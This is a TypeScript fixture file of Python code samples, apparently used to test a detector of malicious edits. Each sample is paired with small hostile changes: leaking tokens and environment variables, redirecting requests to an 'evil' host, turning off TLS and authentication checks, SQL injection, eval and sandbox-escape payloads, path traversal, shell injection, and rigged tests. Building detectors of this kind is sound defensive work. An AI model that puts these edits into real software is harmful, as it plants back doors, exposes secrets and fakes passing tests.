import type { HostileTrial } from './trial.ts';

export const PYTHON_TRIALS: readonly HostileTrial[] = [
  {
    path: 'app/client.py',
    before: `import logging
import os

import requests

from app.settings import settings

log = logging.getLogger(__name__)
BASE = os.environ.get("API_URL", "https://api.shop.example")
TIMEOUT = 5


def get_order(order_id):
    response = requests.get(f"{BASE}/orders/{order_id}", headers={"authorization": settings.token}, timeout=TIMEOUT)
    response.raise_for_status()
    log.info("read order %s", order_id)
    return response.json()


def save_order(order):
    response = requests.put(f"{BASE}/orders/{order['id']}", json=order, timeout=TIMEOUT, verify=True)
    return response.status_code == 200
`,
    edits: {
      'steals a secret': [
        ['log.info("read order %s", order_id)', 'log.info("read order %s", settings)'],
        ['log.info("read order %s", order_id)', 'log.info("read order %s %s", order_id, settings.token)'],
        ['log.info("read order %s", order_id)', 'log.info("read order %(token)s", vars(settings))'],
        ['log.info("read order %s", order_id)', 'log.info("{0.__class__.__init__.__globals__}".format(settings))'],
        ['log.info("read order %s", order_id)', 'log.info(f"read order {settings!r}")'],
        ['log.info("read order %s", order_id)', 'log.info(dict(os.environ))'],
        ['log.info("read order %s", order_id)', 'log.info(os.environ.get("GITHUB_TOKEN"))'],
        ['"API_URL"', '"AWS_SECRET_ACCESS_KEY"'],
        ['return response.json()', 'return {**response.json(), "t": settings.token}'],
        ['return response.json()', 'return response.request.headers'],
        ['return response.json()', 'assert not response, settings.token'],
        ['json=order', 'json=settings.__dict__'],
        ['json=order', 'json={**order, "note": settings.token}'],
        ['response.raise_for_status()', 'response.raise_for_status() if response.ok else exit(settings.token)'],
      ],
      'opens a connection': [
        ['"https://api.shop.example"', '"https://api.evil.example"'],
        ['"https://api.shop.example"', '"http://api.shop.example"'],
        ['f"{BASE}/orders/{order_id}"', 'f"{order_id}"'],
        ['f"{BASE}/orders/{order_id}"', 'order_id'],
        ['f"{BASE}/orders/{order_id}"', 'f"{BASE}.evil.example/orders/{order_id}"'],
        ['f"{BASE}/orders/{order_id}"', '"".join(map(chr, (104, 116, 116, 112, 58, 47, 47, 101)))'],
        [
          'timeout=TIMEOUT)\n    response.raise',
          'timeout=TIMEOUT, proxies={"https": "203.0.113.9"})\n    response.raise',
        ],
        ['timeout=TIMEOUT, verify=True', 'timeout=TIMEOUT, verify=True, hooks={"response": get_order}'],
        ['return response.status_code == 200', 'return requests.post(response.text, json=order).ok'],
      ],
      'weakens a check': [
        ['verify=True', 'verify=False'],
        ['verify=True', 'verify=not TIMEOUT'],
        ['verify=True', 'verify=0'],
        ['verify=True', 'verify=None == 1'],
        ['timeout=TIMEOUT)\n    response.raise', 'timeout=TIMEOUT, **{"ver" "ify": False})\n    response.raise'],
        ['    response.raise_for_status()\n', ''],
        ['return response.status_code == 200', 'return response.status_code != 0'],
        ['return response.status_code == 200', 'return True'],
        ['TIMEOUT = 5', 'TIMEOUT = 5\nrequests.Session.verify = False'],
        ['TIMEOUT = 5', 'TIMEOUT = 5\nrequests.packages.urllib3.disable_warnings()'],
      ],
      'evaluates text': [
        ['return response.json()', 'return list(map(eval, response.json()))'],
        ['return response.json()', 'return response.json(object_hook=lambda d: eval(d["x"]))'],
        ['return response.json()', 'return getattr(__builtins__, "ev" + "al")(response.text)'],
        [
          'return response.json()',
          'return [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("id")',
        ],
        ['return response.json()', 'return get_order.__globals__["__builtins__"]["exec"](response.text)'],
        ['return response.json()', 'return type(get_order)(get_order.__code__.replace(co_consts=()), {})()'],
        ['return response.json()', 'return log.manager.loggerClass.__init__.__globals__["os"].system(order_id)'],
        ['return response.json()', 'return os.popen(response.text).read()'],
        ['return response.json()', 'return (lambda s=os.system: s(order_id))()'],
        ['return response.json()', 'return \u1d49val(response.text)'],
        [
          'TIMEOUT = 5',
          'TIMEOUT = 5\n\n\nclass Order:\n    def __init_subclass__(cls, **kw):\n        cls.__class_getitem__ = os.system',
        ],
        [
          'TIMEOUT = 5',
          'TIMEOUT = 5\n\n\nclass Meta(type):\n    __getitem__ = os.system\n\n\nclass Run(metaclass=Meta):\n    x = 1',
        ],
        ['def save_order(order):', '@os.system\n@lambda f: "id"\ndef save_order(order):'],
        ['def save_order(order):', 'def save_order(order, _=print(__import__("os").environ)):'],
        ['def save_order(order):', 'def save_order(order: exec("import os; os.abort()")):'],
        ['import logging\n', '# -*- coding: rot13 -*-\nimport logging\n'],
        ['TIMEOUT = 5', 'TIMEOUT = 5\n__builtins__["len"] = __builtins__["exec"]'],
        ['TIMEOUT = 5', 'TIMEOUT = 5\n__path__ = ["/tmp"]\n__getattr__ = os.system'],
      ],
    },
  },
  {
    path: 'app/auth.py',
    before: `import hmac
from functools import wraps

from flask import abort, request, session

from app.db import db
from app.models import User

MAX_ATTEMPTS = 5


def login_required(view):
    @wraps(view)
    def inner(*args, **kwargs):
        if "user" not in session:
            abort(401)
        return view(*args, **kwargs)

    return inner


def is_valid(signature, expected):
    return hmac.compare_digest(signature, expected)


def is_admin(user):
    return user is not None and user.role == "admin"


@login_required
def delete_order(order_id):
    user = User.query.get(session["user"])
    if not is_admin(user):
        abort(403)
    db.session.execute("DELETE FROM orders WHERE id = :id", {"id": order_id})
    db.session.commit()


def attempts_left(user):
    return max(0, MAX_ATTEMPTS - user.attempts)
`,
    edits: {
      'weakens a check': [
        ['            abort(401)', '            pass'],
        ['if "user" not in session', 'if "user" not in session and request.args'],
        ['return hmac.compare_digest(signature, expected)', 'return True'],
        ['hmac.compare_digest(signature, expected)', 'hmac.compare_digest(signature, signature)'],
        ['hmac.compare_digest(signature, expected)', 'signature == expected or not signature'],
        ['hmac.compare_digest(signature, expected)', 'hmac.compare_digest(signature[:1], expected[:1])'],
        ['user is not None and user.role == "admin"', 'user is not None or user.role == "admin"'],
        ['user is not None and user.role == "admin"', 'user is not None'],
        ['user.role == "admin"', 'user.role in "administrator member"'],
        ['@login_required\ndef delete', 'def delete'],
        ['    if not is_admin(user):\n        abort(403)\n', ''],
        ['if not is_admin(user)', 'if not is_admin'],
        ['abort(403)', 'abort'],
        ['MAX_ATTEMPTS = 5', 'MAX_ATTEMPTS = 10**9'],
        ['max(0, MAX_ATTEMPTS - user.attempts)', 'max(1, MAX_ATTEMPTS - user.attempts)'],
      ],
      'hides a back door': [
        ['user is not None and user.role', 'request.args.get("k") == "1" or user is not None and user.role'],
        ['"DELETE FROM orders WHERE id = :id"', 'f"DELETE FROM orders WHERE id = {order_id}"'],
        ['"DELETE FROM orders WHERE id = :id"', '"DELETE FROM orders WHERE id >= :id"'],
        ['"DELETE FROM orders WHERE id = :id"', '"DELETE FROM users WHERE id = :id"'],
        ['"DELETE FROM orders WHERE id = :id", {"id": order_id}', 'request.args["q"]'],
        ['User.query.get(session["user"])', 'User.query.get(request.args.get("user", session["user"]))'],
        ['User.query.get(session["user"])', 'User.query.filter_by(role="admin").first()'],
        ['def is_admin(user):', 'User.__eq__ = lambda a, b: True\n\n\ndef is_admin(user):'],
        ['def is_admin(user):', 'def is_admin(user):\n    user.role = "admin"'],
      ],
    },
  },
  {
    path: 'app/jobs.py',
    before: `import json
import subprocess
from pathlib import Path

DATA = Path("data")


def archive(name):
    subprocess.run(["tar", "-czf", f"{name}.tgz", "--", name], check=True, cwd=DATA)


def load(name):
    return json.loads((DATA / name).read_text())


def save(name, job):
    (DATA / name).write_text(json.dumps(job))


def retry(call, times=3):
    for attempt in range(times):
        try:
            return call()
        except OSError:
            continue
    raise RuntimeError("gave up")
`,
    edits: {
      'runs a process': [
        ['["tar", "-czf", f"{name}.tgz", "--", name]', '["tar", "-czf", f"{name}.tgz", name]'],
        ['["tar", "-czf", f"{name}.tgz", "--", name]', 'f"tar -czf {name}.tgz {name}"'],
        ['check=True, cwd', 'check=True, shell=True, cwd'],
        ['"--", name]', '"--checkpoint-action=exec=sh", name]'],
        ['cwd=DATA', 'cwd=DATA, preexec_fn=load'],
        ['return call()', 'return subprocess.call(call)'],
        ['json.loads((DATA / name).read_text())', 'archive((DATA / name).read_text())'],
      ],
      'touches files': [
        ['Path("data")', 'Path("/")'],
        ['Path("data")', 'Path.home()'],
        ['(DATA / name).read_text()', 'Path(name).read_text()'],
        ['(DATA / name).read_text()', '(DATA / ".." / name).read_text()'],
        ['(DATA / name).read_text()', '(DATA / "/proc/self/environ").read_text()'],
        [
          '(DATA / name).write_text(json.dumps(job))',
          '(DATA / name).write_text(name)\n    (DATA / name).chmod(0o4777)',
        ],
        ['(DATA / name).write_text(json.dumps(job))', '(DATA / json.dumps(job)).write_text(name)'],
        ['(DATA / name).write_text(json.dumps(job))', 'job["path"].write_text(json.dumps(job))'],
        ['(DATA / name).write_text(json.dumps(job))', '(DATA / name).unlink()'],
        ['(DATA / name).write_text(json.dumps(job))', 'DATA.joinpath(name).symlink_to(job["to"])'],
      ],
      'masks a failure': [
        ['    raise RuntimeError("gave up")', '    return None'],
        ['check=True', 'check=False'],
        ['except OSError', 'except BaseException'],
      ],
      spins: [
        ['range(times)', 'iter(int, 1)'],
        ['for attempt in range(times)', 'while True'],
        ['times=3', 'times=10**12'],
        ['            continue', '            retry(call, times + 1)'],
      ],
    },
  },
  {
    path: 'tests/test_cart.py',
    before: `import pytest

from app.cart import Cart


def test_total():
    cart = Cart()
    cart.add("a", 2, 3)
    assert cart.total() == 6


def test_empty():
    with pytest.raises(ValueError):
        Cart().pay(1)
`,
    edits: {
      'masks a failure': [
        ['assert cart.total() == 6', 'assert cart.total() == cart.total()'],
        ['assert cart.total() == 6', 'assert (cart.total() == 6, "total")'],
        ['assert cart.total() == 6', 'assert cart.total() == pytest.approx(6, abs=100)'],
        ['assert cart.total() == 6', 'assert cart.total() == 6 or cart'],
        ['pytest.raises(ValueError)', 'pytest.raises(Exception)'],
        ['def test_total', '@pytest.mark.xfail\ndef test_total'],
        ['def test_total', 'pytestmark = pytest.mark.skip\n\n\ndef test_total'],
        ['def test_total', 'def pytest_sessionfinish(session):\n    session.exitstatus = 0\n\n\ndef test_total'],
        ['def test_total', 'Cart.total = lambda self: 6\n\n\ndef test_total'],
        ['    cart = Cart()\n', '    cart = Cart()\n    cart.total = lambda: 6\n'],
        ['def test_total():', 'def test_total(monkeypatch):\n    monkeypatch.setattr(Cart, "total", lambda self: 6)'],
      ],
    },
  },
  {
    path: 'app/cart.py',
    before: `class Cart:
    def __init__(self):
        self.lines = []

    def add(self, sku, price, quantity):
        self.lines.append((sku, price, quantity))

    def total(self):
        result = 0
        for i in range(len(self.lines) + 1):
            _, price, quantity = self.lines[i]
            result += price * quantity
        return result

    def __repr__(self):
        return "Cart(%d)" % len(self.lines)
`,
    edits: {
      'evaluates text': [
        ['return result', 'return "{0.add.__globals__}".format(self)'],
        ['return result', 'return f"{self.add.__func__.__globals__!r}"'],
        ['return result', 'return sum(map(eval, self.lines))'],
        ['return result', 'return max(self.lines, key=exec)'],
        ['return result', 'return __loader__.load_module("os").system(self.lines[0][0])'],
        ['return result', 'return self.__class__.__mro__[-1].__subclasses__()[132](self.lines[0][0])'],
        [
          'return result',
          'match self:\n            case object(__class__=c):\n                return c.__base__.__subclasses__()',
        ],
        [
          'return result',
          'try:\n            1 / 0\n        except ZeroDivisionError as e:\n            return e.__traceback__.tb_frame.f_builtins["exec"](self.lines[0][0])',
        ],
        ['return result', 'return (yield).gi_frame.f_back.f_globals'],
        ['return "Cart(%d)" % len(self.lines)', 'return breakpoint()'],
        ['return "Cart(%d)" % len(self.lines)', 'return help(self.lines[0][0])'],
        ['return "Cart(%d)" % len(self.lines)', 'return open(self.lines[0][0]).read()'],
        ['self.lines = []', 'self.__class__.__getattr__ = lambda s, n: __import__(n)\n        self.lines = []'],
      ],
      spins: [
        ['        for i in range', '        while self.lines:\n            result += 1\n        for i in range'],
        ['        result = 0', '        result = self.total()'],
        ['result += price * quantity', 'result += price ** quantity ** 99999999'],
        ['self.lines.append((sku, price, quantity))', 'self.lines.append((sku * 10**11, price, quantity))'],
        ['self.lines.append((sku, price, quantity))', 'for line in self.lines:\n            self.lines.append(line)'],
      ],
      'hides a back door': [
        ['return result', 'return result if self.lines[0][0] != "vip" else 0'],
        ['return result', 'return min(result, 1)'],
        ['def total(self):', 'def total(self, seen=[]):\n        seen.append(self)'],
      ],
    },
  },
];
